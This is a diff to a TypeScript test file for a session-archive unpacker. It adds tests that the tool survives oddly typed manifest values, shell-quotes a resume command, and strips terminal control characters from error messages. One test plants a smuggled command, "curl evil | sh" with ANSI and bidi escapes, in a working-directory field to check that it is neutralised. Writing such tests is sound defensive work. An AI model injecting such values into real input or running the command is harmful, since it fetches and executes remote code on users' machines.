@@ -8,6 +8,7 @@ import { afterAll, expect, test } from 'vitest';
 import { joinBytes } from '../../src/base/bytes.ts';
 import { writeTar } from '../../src/housekeeping/tar.ts';
 import { unpackSessions } from '../../src/housekeeping/unpack-sessions.ts';
+import { runClew } from '../cli/run-clew.ts';
 
 const root = mkdtempSync(join(tmpdir(), 'clew-packs-'));
 afterAll(() => rmSync(root, { recursive: true, force: true }));
@@ -22,15 +23,15 @@ interface PackedFile {
   readonly bytes?: number;
 }
 
-async function makePack(name: string, files: readonly PackedFile[]): Promise<string> {
+async function makePack(name: string, files: readonly PackedFile[], more: object = {}): Promise<string> {
   const told = files.map(({ role, path, text = '', bytes }) => ({
     role,
     path,
     bytes: bytes ?? Buffer.byteLength(text),
-    sha256: createHash('sha256').update(text).digest('hex'),
+    sha256: hashOf(text),
     modified: 0,
   }));
-  const session = { sessionId: ID, project: '-p', cwd: '/p', home: '/h', files: told, history: [] };
+  const session = { sessionId: ID, project: '-p', cwd: '/p', home: '/h', files: told, history: [], ...more };
   const manifest = Buffer.from(JSON.stringify({ format: 'clew-pack', version: 1, sessions: [session] }));
   const parts = [manifest, ...files.map(({ text = '' }) => Buffer.from(text))];
   const chunks: Uint8Array[] = [];
@@ -90,3 +91,38 @@ test('a file longer than its manifest says is refused', async () => {
   const longer = { role: 'own', path: ['x.txt'], text: 'four', bytes: 3 };
   await expect(unpack('longer', [main, longer])).rejects.toThrow(/not those of its manifest/);
 });
+
+test('values of unexpected types in a manifest break nothing', async () => {
+  // `Number()` of such an object throws.
+  const odd = { modified: { valueOf: 1, toString: 1 } };
+  const told = { role: 'main', path: [`${ID}.jsonl`], bytes: ENTRY.length, sha256: hashOf(ENTRY), ...odd };
+  const home = join(root, 'odd', 'home');
+  mkdirSync(home, { recursive: true });
+  const pack = await makePack('odd', [main], { files: [told] });
+  await unpackSessions(pack, { home, dataDir: join(root, 'odd', 'data'), map: [], now: () => new Date(0) });
+  expect(existsSync(join(home, 'projects', '-p', `${ID}.jsonl`))).toBe(true);
+});
+
+test('the command to copy holds no other command, whatever the pack says', async () => {
+  const home = join(root, 'shell', 'home');
+  mkdirSync(home, { recursive: true });
+  const pack = await makePack('shell', [main], { cwd: "/p; curl evil | sh; '\u001b[2J\u202e" });
+  const env = { CLEW_DATA_DIR: join(root, 'shell', 'data') };
+  const { out, code } = await runClew(['unpack', pack, '--home', home], { env });
+  expect(code).toBe(0);
+  expect(out).toContain(`\ncd '/p; curl evil | sh; '\\''[2J' && claude --resume ${ID}\n`);
+});
+
+test('what a refusal quotes of a pack cannot steer the terminal', async () => {
+  const path = ['todos', 'a\u009b2J\u202eb'];
+  const pack = await makePack('quoted', [main, { role: 'home', path, text: 'x' }]);
+  const env = { CLEW_DATA_DIR: join(root, 'quoted', 'data') };
+  const { err, code } = await runClew(['unpack', pack, '--home', root], { env });
+  expect(code).toBe(2);
+  expect(err).toContain('is no place for a session');
+  expect(err).not.toMatch(/[\u0080-\u009f\u202e]/);
+});
+
+function hashOf(text: string): string {
+  return createHash('sha256').update(text).digest('hex');
+}
